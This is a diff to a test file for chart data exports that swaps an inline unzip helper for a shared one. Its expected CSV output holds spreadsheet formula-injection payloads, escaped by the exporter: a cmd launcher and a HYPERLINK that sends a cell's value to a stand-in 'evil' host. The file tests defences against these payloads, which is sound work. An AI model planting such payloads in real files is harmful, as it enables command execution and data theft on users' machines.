@@ -5,7 +5,7 @@
  * hand-written SQL.
  */
 import ExcelJS from 'exceljs';
-import yauzl from 'yauzl';
+import { unzipText } from '../support/unzip-text';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { TestApp } from '../support/test-app';
 import { createDatabase, createDataset, createDuckdbFile } from '../modules/datasets-fixtures';
@@ -20,29 +20,6 @@ const EVIL_DDL = [
     ('normal', 1, chr(9) || 'tab first'),
     ('say "hi"', 0, NULL)`,
 ];
-
-function unzip(buffer: Buffer): Promise<Record<string, string>> {
-  return new Promise((resolve, reject) => {
-    yauzl.fromBuffer(buffer, { lazyEntries: true }, (err, zip) => {
-      if (err || !zip) return reject(err ?? new Error('no zip'));
-      const out: Record<string, string> = {};
-      zip.on('entry', (entry: yauzl.Entry) => {
-        zip.openReadStream(entry, (streamErr, stream) => {
-          if (streamErr || !stream) return reject(streamErr ?? new Error('no stream'));
-          const chunks: Buffer[] = [];
-          stream.on('data', (c: Buffer) => chunks.push(c));
-          stream.on('end', () => {
-            out[entry.fileName] = Buffer.concat(chunks).toString('utf8');
-            zip.readEntry();
-          });
-        });
-      });
-      zip.on('end', () => resolve(out));
-      zip.on('error', reject);
-      zip.readEntry();
-    });
-  });
-}
 
 /** A minimal RFC 4180 reader, independent of the writer under test. */
 function parseCsv(text: string): string[][] {
@@ -153,7 +130,7 @@ describe('chart data exports', () => {
     expect(res.statusCode, res.body).toBe(200);
     expect(res.headers['content-type']).toBe('application/zip');
     expect(res.headers['content-disposition']).toMatch(/filename=superset_table_\d{8}_\d{6}\.zip$/);
-    const files = await unzip(res.rawPayload);
+    const files = Object.fromEntries(await unzipText(res.rawPayload));
     expect(Object.keys(files)).toEqual(['query_1.csv', 'query_2.csv']);
     expect(files['query_1.csv']).toBe(
       `label\r\n'+cmd\\|'/c calc'!A1\r\n"'=HYPERLINK(""http://evil?x=""&A1)"\r\n`,
